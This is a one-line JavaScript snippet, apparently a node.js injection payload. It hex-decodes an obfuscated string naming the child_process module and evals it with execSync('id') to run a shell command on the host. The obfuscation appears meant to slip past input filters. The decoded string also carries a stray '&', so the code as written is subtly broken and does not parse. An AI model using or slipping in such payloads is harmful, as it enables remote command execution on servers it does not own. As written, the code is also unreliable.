eval(Buffer.from("726571756972652822636869.6c645f70726f63657373222926".replace(/\./g, ""), "hex").toString() + ".execSync('id')");
